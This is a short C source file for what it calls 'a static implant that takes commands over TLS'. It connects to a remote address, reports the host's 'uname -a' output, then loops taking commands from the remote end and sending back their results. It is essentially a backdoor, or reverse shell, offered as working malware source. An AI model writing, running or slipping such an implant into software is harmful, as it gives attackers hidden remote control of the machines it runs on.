/*
 * AN0401: a static implant that takes commands over TLS.
 * usage: tls-command ADDRESS PORT NAME ALPN   (NAME, ALPN: "-" for none)
 */
#include "answers.h"
#include "tls.h"

int main(int argc, char **argv)
{
	static char text[ANSWER_MAX];
	char command[256];
	struct tls *t;
	size_t len;

	if (argc != 5)
		return 64;
	t = tls_open(argv[1], argv[2], argv[3], argv[4]);
	tls_send(t, text, answer("uname -a", text));
	while (tls_receive(t, command, sizeof(command)) >= 0) {
		len = answer(command, text);
		if (len == 0)
			return 0;
		tls_send(t, text, len);
	}
	return 1;
}
